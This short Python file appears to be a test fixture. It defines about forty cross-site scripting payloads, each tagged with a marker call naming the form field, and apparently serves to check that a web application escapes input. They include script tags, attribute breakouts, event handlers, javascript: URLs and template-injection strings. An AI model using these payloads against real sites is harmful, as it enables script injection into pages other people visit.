"""Forty ways to slip a script into a page. `{field}` becomes the field's name, so that each is known again."""

PAYLOADS = tuple(
    line.replace("FN", "__pwn('{field}')")
    for line in r"""
<script>FN</script>
</script><script>FN</script>
</title><script>FN</script>
</textarea><script>FN</script>
</style><script>FN</script>
--><script>FN</script>
<scr<script>ipt>FN</script>
<SCRIPT SRC=//x.invalid/{field}></SCRIPT>
<script type=module>FN</script>
<script nonce>FN</script>
<img src=x onerror=FN>
"><img src=x onerror=FN>
'><img src=x onerror=FN>
<img/src=x/onerror=FN>
<IMG SRC="x" ONERROR="FN">
<svg onload=FN>
<svg><script>FN</script></svg>
<svg><animate onbegin=FN attributeName=x>
<math><mtext></p><img src=x onerror=FN>
<body onload=FN>
<iframe src="javascript:FN"></iframe>
<iframe srcdoc="<script>FN</script>"></iframe>
<object data="javascript:FN"></object>
<embed src="javascript:FN">
<a href="javascript:FN">{field}</a>
<a href="JaVaScRiPt:FN">{field}</a>
<form action="javascript:FN"><button>{field}
<button formaction="javascript:FN">{field}
<input autofocus onfocus=FN>
" autofocus onfocus="FN" x="
' autofocus onfocus='FN' x='
" onmouseover="FN" x="
<details open ontoggle=FN>
<video><source onerror=FN></video>
<meta http-equiv=refresh content="0;url=javascript:FN">
<link rel=stylesheet href="//x.invalid/{field}">
<base href="//x.invalid/{field}/">
<style>@import '//x.invalid/{field}';</style>
{{ FN }}{% FN %}<b {field}>
${FN}<template><script>FN</script></template>
""".strip().splitlines()
)
